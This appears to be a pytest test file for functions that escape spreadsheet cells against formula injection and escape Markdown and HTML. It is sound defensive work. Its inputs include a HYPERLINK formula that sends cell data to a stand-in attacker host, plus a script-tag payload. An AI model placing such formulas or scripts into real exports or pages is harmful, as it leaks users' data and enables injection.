import csv
import io

import pytest

from tasks.runtime.escaping import escape_cell, escape_markdown


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://attacker.example/?"&A1,"click")',
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\uff1d1+1",
        "--5",
        "-",
        "+49 30 1234",
        "-1e",
        "-\u0663",  # an Arabic-Indic digit: no number in a spreadsheet
    ],
)
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert escape_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "value",
    [
        "-0.5",
        "+3",
        "-.5",
        "-1e-7",
        "+1.E+3",
        "plain",
        "",
        " =1",
        "'=1",
        "a=b",
        -0.5,
        -3,
        1e-9,
        None,
        True,
        float("nan"),
    ],
)
def test_numbers_and_plain_texts_stay_as_they_are(value):
    assert escape_cell(value) is value


def test_the_cell_survives_the_quoting_of_a_csv_file():
    text = io.StringIO()
    csv.writer(text).writerow([escape_cell('=1,"x"\n+2'), escape_cell(-0.5)])
    assert next(csv.reader(io.StringIO(text.getvalue()))) == ['\'=1,"x"\n+2', "-0.5"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("sports", "sports"),
        ("météo, 0.5 (a-b)", "météo, 0.5 (a-b)"),
        ("a|b", r"a\|b"),
        ("`rm`", r"\`rm\`"),
        ("[x](https://attacker.example)", r"\[x\](https://attacker.example)"),
        ("![x](y)", r"\!\[x\](y)"),
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("&lt;b&gt;", "&amp;lt;b&amp;gt;"),
        ("a\n# head\r\n\u2028| b", r"a \# head \| b"),
        ("\\|", r"\\\|"),
        ("*a* _b_ ~c~ $d$ {e}", r"\*a\* \_b\_ \~c\~ \$d\$ \{e\}"),
        ("@someone", "&#64;someone"),
        ("a\x00b\x1b[1m", r"a b \[1m"),
    ],
)
def test_markdown_shows_the_text_on_one_line(text, expected):
    assert escape_markdown(text) == expected
